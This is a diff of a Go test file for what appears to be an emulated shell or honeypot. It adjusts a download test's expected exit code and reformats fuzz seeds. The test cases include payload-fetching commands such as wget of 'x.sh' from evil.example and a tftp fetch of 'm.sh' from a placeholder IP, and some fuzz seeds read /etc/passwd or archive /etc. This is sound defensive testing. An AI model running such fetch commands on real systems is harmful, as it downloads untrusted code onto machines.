@@ -215,7 +215,7 @@ func TestDownloads(t *testing.T) {
 		seen string
 	}{
 		{"wget http://evil.example/x.sh -O /tmp/x", 4, "wget: unable to resolve host address ‘evil.example’\n", "get wget http://evil.example/x.sh /tmp/x"},
-		{"curl -s http://203.0.113.7/a", 28, "", "get curl http://203.0.113.7/a "},
+		{"curl -s http://203.0.113.7/a", 7, "", "get curl http://203.0.113.7/a "},
 		{"curl http://evil.example/a", 6, "curl: (6) Could not resolve host: evil.example\n", "get curl http://evil.example/a "},
 		{"wget -q http://127.0.0.1:81/", 4, "", "get wget http://127.0.0.1:81/ index.html"},
 		{"tftp -g -r m.sh 203.0.113.7", 1, "tftp: timeout\n", "get tftp tftp://203.0.113.7/m.sh m.sh"},
@@ -259,9 +259,11 @@ func TestBudget(t *testing.T) {
 // FuzzCommands gives every command any arguments and input: nothing panics and
 // nothing outruns its budget.
 func FuzzCommands(f *testing.F) {
-	for _, s := range []string{"ls -la /", "sed s/a/b/g", "awk {print}", "find / -name x", "tar czf - /etc", "grep -E (a|b)+ /etc/passwd", "dd if=/dev/zero bs=9 count=2", "printf %d%s%b x y z",
+	for _, s := range []string{
+		"ls -la /", "sed s/a/b/g", "awk {print}", "find / -name x", "tar czf - /etc", "grep -E (a|b)+ /etc/passwd", "dd if=/dev/zero bs=9 count=2", "printf %d%s%b x y z",
 		"sort -k1,2n -t:", "date -d @5 +%c", "ps auxww", "chmod u+s,g-x /etc", "xargs -I{} echo {}", "tr -cd [:alnum:]", "test ( a = b ) -o !", "expr a : \\(.\\)", "head -c -5", "od -tx1z", "curl -o x http://[::1]:99/",
-		"cut -f1-,3", "seq -f %g 1 .1 2", "stat -c %n%%%y /", "busybox tar x", "env -i A=b cat", "ls --color=always -x", "xxd -r -p", "base64 -d", "crontab -", "join x", "comm -", "diff / /"} {
+		"cut -f1-,3", "seq -f %g 1 .1 2", "stat -c %n%%%y /", "busybox tar x", "env -i A=b cat", "ls --color=always -x", "xxd -r -p", "base64 -d", "crontab -", "join x", "comm -", "diff / /",
+	} {
 		f.Add(s, "one:two\nthree\x00four\n")
 	}
 	b := newBench(f, "debian-12")
